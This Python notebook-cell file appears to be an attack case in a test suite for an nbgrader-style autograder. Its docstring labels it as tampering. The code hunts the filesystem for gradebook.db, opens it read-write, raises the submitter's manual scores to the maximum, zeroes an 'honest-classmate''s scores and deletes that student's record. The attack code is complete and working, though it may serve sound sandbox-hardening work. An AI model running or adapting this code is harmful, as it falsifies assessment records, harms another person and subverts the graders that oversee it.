"""Opens nbgrader's gradebook.db at guessed paths to raise its own grade and lower a classmate's.

attack: tries ../../../gradebook.db and other relative and absolute guesses (and a recursive search of /tmp, the folder holding the checkout, /root, /home) with sqlite3 in read-write mode, setting its own manual scores to the maximum and the honest classmate's to 0
class: tampering
honest: sigmoid, relu
"""

# %% +after relu_code
import glob
import os
import sqlite3
from pathlib import Path

_guesses = ["../../../gradebook.db", "../../gradebook.db", "../gradebook.db", "gradebook.db", "__CHECKOUT__/gradebook.db",
            str(Path.home().parent.parent / "gradebook.db"), "/srv/nbgrader/gradebook.db", "/root/gradebook.db"]
for _pattern in ("/tmp/**/gradebook.db", "__CHECKOUT__/../**/gradebook.db", "/root/**/gradebook.db", "/home/**/gradebook.db"):
    _guesses += glob.glob(_pattern, recursive=True)[:50]
_touched = []
for _path in _guesses:
    try:
        _con = sqlite3.connect(f"file:{os.path.abspath(_path)}?mode=rw", uri=True, timeout=1)
        _con.execute(
            "UPDATE grade SET manual_score = max_score_gradecell WHERE 1"
        )
    except Exception as exc:  # noqa: BLE001
        print("cannot edit", _path, type(exc).__name__)
        continue
    for _sql in (
        "UPDATE grade SET manual_score = 0 WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN "
        "submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = 'honest-classmate')",
        "UPDATE grade SET manual_score = 100 WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN "
        "submitted_assignment a ON n.assignment_id = a.id WHERE a.student_id = 'sqlite-gradebook-edit')",
        "DELETE FROM student WHERE id = 'honest-classmate'",
    ):
        try:
            _con.execute(_sql)
        except Exception:  # noqa: BLE001
            pass
    _con.commit()
    _touched.append(_path)
print("edited:", _touched)
